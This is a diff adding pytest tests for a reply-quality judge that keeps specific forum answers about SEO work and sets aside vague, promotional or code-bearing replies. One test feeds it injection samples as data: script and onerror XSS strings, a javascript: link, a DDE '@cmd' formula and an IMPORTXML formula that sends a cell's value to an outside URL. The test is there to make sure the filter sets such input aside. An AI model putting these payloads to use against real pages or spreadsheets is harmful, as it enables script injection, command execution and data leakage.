@@ -242,3 +242,152 @@ def test_a_span_points_into_the_part_as_it_was_given():
 def test_an_answer_in_parts_is_judged_as_one():
     whole = judge_one("Great question!", "We stopped buying links in 2019", "because nobody clicked them.")
     assert whole.verdict is Verdict.KEEP
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Stopped writing for robots, started writing for plumbers.",
+        "If the client cannot name the goal, no report.",
+        "Nine dashboards became one. Nobody opened the other eight.",
+        "A ranking report is a horoscope with charts.",
+        "Twice, in 2016. Both were my fault.",
+        "Popups. Conversions dipped for a week, then recovered.",
+    ],
+)
+def test_few_words_that_say_something_are_kept(text):
+    assert judge_one(text).verdict is Verdict.KEEP
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "It depends on so many things.",
+        "I guess some of it works in some cases",
+        "Quality over everything.",
+        "Hard to say, there are different opinions about it",
+        "It is all about the user.",
+        "Yes and no, I suppose.",
+    ],
+)
+def test_few_words_that_say_little_are_not_kept(text):
+    assert judge_one(text).verdict is not Verdict.KEEP
+
+
+def test_who_hedges_first_and_then_tells_is_kept():
+    text = "It depends. For shops we stopped writing category texts in 2022, and the sales stayed where they were for a year."
+    assert judge_one(text).verdict is Verdict.KEEP
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Bookmarked, thanks for asking!",
+        "Ooh, saving this one for later",
+        "What an important topic, following",
+        "So many great answers in here, thank you all",
+        "Such a good poll, looking forward to this thread",
+    ],
+)
+def test_a_nod_to_the_thread_is_not_kept(text):
+    assert judge_one(text).verdict is Verdict.ASIDE
+
+
+GENERAL = (
+    "Sustainable success comes from a balanced and holistic approach that puts people first. Trust, relevance and "
+    "consistency are the pillars of every great brand, and quality content always wins in the long run."
+)
+
+
+def test_a_long_reply_without_any_particular_is_general_and_not_kept():
+    judgement = judge_one(GENERAL)
+    assert "general" in {reason.rule for reason in judgement.reasons}
+    assert judgement.verdict is Verdict.MAYBE
+
+
+def test_a_long_reply_with_a_deed_in_it_is_not_general():
+    assert "general" not in rules_of(f"{GENERAL} We learned it when we deleted half of the blog.")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Does anybody know a good plumber in Hamburg? Ours is on holiday.",
+        "Can someone recommend a cheap host? Mine is slow.",
+        "Is it still worth buying links? I am new to this.",
+    ],
+)
+def test_a_reply_that_asks_for_something_is_not_kept(text):
+    judgement = judge_one(text)
+    assert "asks" in {reason.rule for reason in judgement.reasons}
+    assert judgement.verdict is not Verdict.KEEP
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<script>alert(1)</script>",
+        '<img src=x onerror="steal()"> great site',
+        '=IMPORTXML("https://example.com/x?"&A1, "//a")',
+        "[click](javascript:alert(1))",
+        "@cmd|' /C calc'!A0",
+    ],
+)
+def test_code_instead_of_an_answer_is_set_aside(text):
+    judgement = judge_one(text)
+    assert judgement.verdict is Verdict.ASIDE
+    assert "code" in {reason.rule for reason in judgement.reasons}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "We stopped using <b>bold</b> in titles because nobody clicked it.",
+        "=SUM(links) was the only column I kept. I deleted forty others in 2021.",
+        "We count on load time: under two seconds since the move.",
+    ],
+)
+def test_writing_about_code_is_no_code(text):
+    assert "code" not in rules_of(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "We created SiteGuard for exactly this. Get your free audit of 20 pages, DM me: https://siteguard.example",
+        "Our studio offers this for 300 a month. Hire us! Book a demo today.",
+        "My Inbox Machine brought 90 people 4,000 leads in March. Grab yours before the price doubles: https://x.example",
+    ],
+)
+def test_several_pitches_outweigh_what_sounds_specific(text):
+    assert judge_one(text).verdict is Verdict.ASIDE
+
+
+def test_an_offer_to_say_more_after_an_answer_does_not_sink_it():
+    text = "We dropped the rank tracker in May 2023 because its numbers were fiction, and saved 400 a month. Happy to chat!"
+    assert judge_one(text).verdict is Verdict.KEEP
+
+
+def test_an_offer_of_an_interview_instead_of_an_answer_is_set_aside():
+    text = (
+        "As a growth expert I believe that trust and relevance are the core of every lasting strategy for modern brands. "
+        "I would be glad to elaborate in an interview."
+    )
+    assert judge_one(text).verdict is Verdict.ASIDE
+
+
+@pytest.mark.parametrize(
+    ("text", "rule"),
+    [
+        ("No, we never bought one.", "direct"),
+        ("Only after a penalty", "direct"),
+        ("You should ask for the logs first", "advice"),
+        ("I'd rather fix the titles", "advice"),
+        ("Traffic doubled", "outcome"),
+        ("Wir haben es gelassen, seitdem ist Ruhe", "outcome"),
+        ("Stopped all of it", "first_hand"),
+        ("Plugins and popups", "content"),
+    ],
+)
+def test_what_makes_an_answer_useful_is_named(text, rule):
+    assert rule in rules_of(text)
